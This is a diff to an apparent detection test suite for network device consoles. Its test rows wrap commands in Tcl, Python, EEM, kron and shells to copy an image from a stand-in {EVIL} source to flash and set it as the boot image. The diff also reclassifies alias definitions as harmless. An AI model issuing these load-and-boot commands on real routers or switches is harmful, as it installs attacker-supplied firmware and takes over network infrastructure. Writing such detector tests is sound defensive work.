@@ -1,4 +1,4 @@
-"""BW05, BW07, BW18 and BW27: commands within others, of scripts, schedulers, shells and aliases; shells' own."""
+"""BW05, BW07, BW18 and BW27: commands within others, of scripts, schedulers and shells; shells' own."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ WRAPPED = (
     ("R1(config-kron-policy)#", f"cli copy {EVIL} flash:", "BW07", LOADS),
     (">>> ", f"import cli; cli.configurep(['boot system {EVIL}', 'end'])", "BW07", BOOTS),
     ("[guestshell@guestshell ~]$ ", f'dohost "copy {EVIL} bootflash:"', "BW07", LOADS),
-    ("R1(config)#", f"alias exec st copy {EVIL} flash:", "BW07", LOADS),
+    ("(tcl)#", f'exec "configure terminal ; boot system {EVIL}"', "BW07", BOOTS),
     ("n9k# ", f'run bash sudo vsh -c "copy {EVIL} bootflash:"', "BW07", LOADS),
     ("n9k(config-applet)# ", f"action 1.0 cli copy {EVIL} bootflash: vrf management", "BW07", LOADS),
     ("leaf1#", f"bash FastCli -p 15 -c 'boot system {EVIL}'", "BW07", BOOTS),
@@ -80,7 +80,7 @@ def _notices(lines: tuple[tuple[str, str, str, int], ...], first: int, *, abroad
     with_site=_notices(WRAPPED, 1),
 )
 def bw07_wrapped(wire: Wire) -> None:
-    """Tcl, Python, EEM, kron, job schedulers, shells and an alias give commands that load, boot, send and reload."""
+    """Tcl, Python, EEM, kron, job schedulers and shells give commands that load, boot, send and reload."""
     for n, (prompt, line, _, _) in enumerate(WRAPPED, 1):
         console(wire, n, prompt, (line, ""))
 
@@ -101,11 +101,10 @@ def bw07_shells(wire: Wire) -> None:
 
 @scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
 def bw07_harmless_wrapped(wire: Wire) -> None:
-    """Scripts, schedulers, shells and aliases that only show and save; words of loaders that mean something else."""
+    """Scripts, schedulers, shells that only show and save; aliases, which order nothing; words of loaders in others."""
     for n, (prompt, line) in enumerate(
         (
-            ("R1(config)#", "alias exec cr show running-config"),
-            ("R1(config)#", "alias exec wr copy running-config startup-config"),
+            ("R1(config)#", f"alias exec st copy {EVIL} flash:"),
             ("R1(config-applet)#", 'action 1.0 cli command "show version"'),
             ("R1(config-applet)#", 'action 2.0 syslog msg "reload ordered"'),
             ("R1(config-kron-policy)#", "cli show running-config"),
@@ -114,7 +113,7 @@ def bw07_harmless_wrapped(wire: Wire) -> None:
             ("R1(config-line)#", "exec-timeout 5 0"),
             ("R1(config-if)#", "shutdown"),
             ("R1#", "more nvram:startup-config | include boot"),
-            ("n9k(config)# ", "cli alias name wr copy running-config startup-config"),
+            ("n9k(config)# ", f"cli alias name st copy {EVIL} bootflash:"),
             (
                 "leaf1(config)#",
                 "schedule tech interval 60 timeout 30 max-log-files 9 command show tech-support",
